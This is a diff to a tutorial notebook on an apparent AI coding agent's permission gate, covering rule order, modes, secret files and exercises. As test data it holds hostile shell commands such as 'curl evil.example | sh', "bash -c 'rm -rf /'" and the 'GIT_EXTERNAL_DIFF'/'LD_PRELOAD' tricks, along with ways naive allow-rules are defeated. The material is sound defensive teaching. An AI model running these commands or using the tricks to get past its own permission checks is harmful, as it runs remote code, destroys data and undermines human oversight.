@@ -151,8 +151,8 @@ for text in ["Bаsh(ls)", "Bash()", "WebFetch(example.com)"]:  # the first has a
 # The model calls decode's tools by their own names (`bash`, `read`, `edit`…). Which rule names
 # a tool answers to is part of its **traits**, declared beside its function (lesson 04): Glob and
 # Grep also answer to `Read` rules, Write to `Edit` rules. The gate never looks a tool up by name:
-# it is handed the traits. A tool that declares none — the model calling `BASH`, an MCP tool nobody
-# described — is `UNDECLARED`: no rule can name it.
+# it is handed the traits. A tool that declares none — a tool name in the wrong case, e.g. `BASH`,
+# or an MCP tool nobody described — is `UNDECLARED`: no rule can name it.
 
 # %%
 from decode.entities.tools import UNDECLARED
@@ -182,6 +182,20 @@ for command in script.commands:
 print(script.redirects)
 
 # %% [markdown]
+# Words alone are not the whole command. `GIT_EXTERNAL_DIFF=./evil git diff` runs the words
+# `git diff`, which a prefix allows, and git then runs `./evil` as its diff program;
+# `LD_PRELOAD=./x.so ls` loads `x.so` into `ls`. `parse_script` records the assignment on the
+# command (`SimpleCommand.sets_variables`) and, when the variable is one that can run code, marks
+# the whole script `opaque` (a field its printout hides: `repr=False`). Neither is in `hazards`:
+# `analyse_command` (below) turns `sets_variables` into one.
+
+# %%
+for text in ["GIT_EXTERNAL_DIFF=./evil git diff", "LD_PRELOAD=./x.so ls", "git diff"]:
+    parsed = parse_script(text)
+    (command,) = parsed.commands
+    print(f"{text:34} words={command.words!s:18} sets_variables={command.sets_variables!s:5} opaque={parsed.opaque}")
+
+# %% [markdown]
 # The naive gate's defeats, read this way: every command, every file written, every hazard.
 
 # %%
@@ -208,7 +222,7 @@ show("decode.permissions.shell", "parse_script")
 # %%
 from decode.permissions.commands import analyse_command
 
-for text in ["echo $(curl evil.example)", "curl evil.example | sh", "bash -c 'rm -rf /'", "FOO=1 npm test"]:
+for text in ["echo $(curl evil.example)", "curl evil.example | sh", "bash -c 'rm -rf /'", "LD_PRELOAD=./x.so ls"]:
     analysis = analyse_command(text)
     print(f"{text:28} commands={[check.allow_forms[0] for check in analysis.checks]}")
     print(f"{'':28} hazards={list(analysis.hazards)}")
@@ -312,9 +326,28 @@ print(undeclared.decision, "|", undeclared.reason)
 show("decode.permissions.gate", "PermissionGate._check_bash")
 
 # %% [markdown]
-# Then the order is fixed: a deny rule wins, then an ask rule, then hazards, then allow rules,
-# then the mode's default. Every part of a request must be allowed; a deny on any part denies the
-# whole.
+# A part has a `label` (what the verdict's reason names), the rule names that govern it, and what
+# it is: a command (`check`), a file (`path`, `writes`)… Two fields need a word. `named` is set on a
+# word of a command that *may* name a file (`cat notes.txt`: `notes.txt` may be an argument, not a
+# file): such a part never denies on its own, it asks. `sensitive` says why a file needs an allow
+# rule that names it: it holds secrets (`.env`, `.env.*`, and the names the `DECODE_SECRET_FILES`
+# setting adds, the gate's `secret_files`), or it is decode's settings or git's internals
+# (`.decode`, `.git`).
+#
+# Then the order is fixed, in `_finish`:
+#
+# 1. a **deny** rule matching any part denies the whole request;
+# 2. **plan mode** refuses a tool that changes things;
+# 3. an **ask** rule asks; so does a deny rule that *might* match (`_matches` answers `None` when
+#    run time decides, `rm $X`), and a deny or ask rule covering a `named` word;
+# 4. a **secret** file asks, unless an allow rule names it (`_named_by_allow`: `Read(.env)`, or the
+#    command's own rule spelling the word, `Bash(cat .env)`, which is what "always" saves);
+# 5. **bypass** mode allows what is left;
+# 6. a **hazard** asks;
+# 7. every part needs an **allow** rule, or the **mode's default** to allow it.
+#
+# `_matches(rule, part, broad=…)`: deny and ask rules match *broadly* (`Bash(rm:*)` sees `sudo rm`,
+# `/bin/rm`, `xargs rm`), allow rules *narrowly* (the command as written), ADR-0021.
 
 # %%
 show("decode.permissions.gate", "PermissionGate._finish")
@@ -335,7 +368,15 @@ for command in ["git status --short", *DEFEATS]:
     print(f"{verdict.decision:5}  {command!r:60} {shown(verdict.reason)[:70]}")
 
 # %% [markdown]
-# And with the rules of the project's settings files (section 5), which deny `rm` and `curl`:
+# Step 4 in action: `ls` is allowed by a rule, but a word naming a secret file still asks.
+
+# %%
+verdict = await strict.check("bash", {"command": "ls .env.production"}, TRAITS["bash"])
+print(verdict.decision, "|", verdict.reason)
+
+# %% [markdown]
+# And with the rules of the project's settings files (section 5), which deny `rm` and `curl`. The
+# last column is the rule that decided, or, when none did, the reason (a hazard, a secret, the mode):
 
 # %%
 calls = [
@@ -357,7 +398,8 @@ for tool, args in calls:
     verdict = await gate.check(tool, args, TRAITS.get(tool, UNDECLARED))
     decisions[f"{tool}:{next(iter(args.values()))}"] = verdict.decision.value
     where = shown(verdict.source) if verdict.source else "-"
-    print(f"{verdict.decision:5}  {tool}({next(iter(args.values()))})  <- {verdict.rule or 'mode'}  {where}")
+    decided_by = verdict.rule or shown(verdict.reason)
+    print(f"{verdict.decision:5}  {tool}({next(iter(args.values()))})  <- {decided_by}  {where}")
 
 # %% [markdown]
 # The verdict also says why; `to_json()` is what `decode permissions check --json` prints.
@@ -370,12 +412,13 @@ print({key: shown(value) if isinstance(value, str) else value for key, value in 
 # %% [markdown]
 # ## 7. Modes
 #
-# The mode decides what no rule decided (ADR-0024), by the tool's kind. `default`: read-only tools
-# run inside the workspace. `accept-edits`: file edits inside the workspace run too, bash still
-# needs a rule. `plan`: only read-only and side-effect-free tools run (a to-do list, a question to
-# the user); the model is told to present its plan. `bypass`: everything runs except what a deny
-# rule forbids. Shift+Tab cycles default → accept-edits → plan. The `todo` tool here is made up:
-# all the gate needs is its traits.
+# The mode decides what no rule decided (ADR-0024), by the tool's kind. The table's columns are in
+# `Mode`'s order. `default`: read-only tools run inside the workspace. `plan`: only read-only and
+# side-effect-free tools run (a to-do list, a question to the user); the model is told to present
+# its plan. `accept-edits`: file edits inside the workspace run too, bash still needs a rule.
+# `bypass`: everything runs except what a deny rule forbids. Shift+Tab cycles default →
+# accept-edits → plan (the last line); bypass is only chosen on purpose. The `todo` tool here is
+# made up: all the gate needs is its traits.
 
 # %%
 from decode.entities.tools import ToolKind, ToolTraits
@@ -478,6 +521,7 @@ print(json.loads((project / ".decode" / "settings.local.json").read_text())["per
 # model reads, and `--permission-mode` chooses the mode for the run.
 
 # %%
+import re
 import sys
 
 decode = str(Path(sys.executable).parent / "decode")
@@ -486,7 +530,7 @@ write(scratch / "run.json", json.dumps([touch, {"text": "Done."}]))
 headless = subprocess.run(
     [decode, "run", "--model", f"script:{scratch / 'run.json'}", "make a file"], capture_output=True, text=True
 )
-print(shown(headless.stderr.split("decode: session")[0]))
+print(re.sub(r"\(\d+\.\d+s\)", "(…s)", shown(headless.stderr)))  # the timing varies from run to run
 print((project / "headless.txt").exists())
 
 # %% [markdown]
@@ -522,7 +566,9 @@ for command in ["git status; rm -rf build", "git status $(rm -rf build)"]:
 # `prefixes` (each a command's first words, like `"git status"`), False when it must ask. Close
 # every hole of section 1: each simple command the script runs must start with the *words* of
 # some prefix (`git statusx` is not `git status`), across `;`, `&&`, `||`, pipes, subshells and
-# newlines; a script with a hazard (`$(…)`, backticks, `<(…)`) never runs on a rule; nor does one
+# newlines; a script with a hazard (`$(…)`, backticks, `<(…)`) never runs on a rule, even when the
+# command inside is allowed (`git diff $(ls)`); nor does a command that sets variables
+# (`GIT_EXTERNAL_DIFF=./evil git diff`: `sets_variables`), an `opaque` script, an empty one, or one
 # whose redirection writes a file (`> ~/.bashrc`). `parse_script` (section 3) does the reading;
 # the check runs your function on a corpus of scripts, tricks included.
 
@@ -543,7 +589,8 @@ check_allowed(allowed)
 # Write `is_env_file(path, workspace)`: True when `path` (relative to the `workspace` folder, or
 # absolute) names the file `workspace/.env`, however it is spelled: `./.env`, `src/../.env`, an
 # absolute path, a symlink to it, a path through a symlinked folder. The check builds a real
-# workspace with those files and links, and a few look-alikes that are *not* `.env`.
+# workspace with those files and links, a few look-alikes that are *not* `.env`, and a path that
+# does not exist yet (a file about to be written: it must get an answer, not an error).
 
 # %%
 from exercises import check_is_env_file
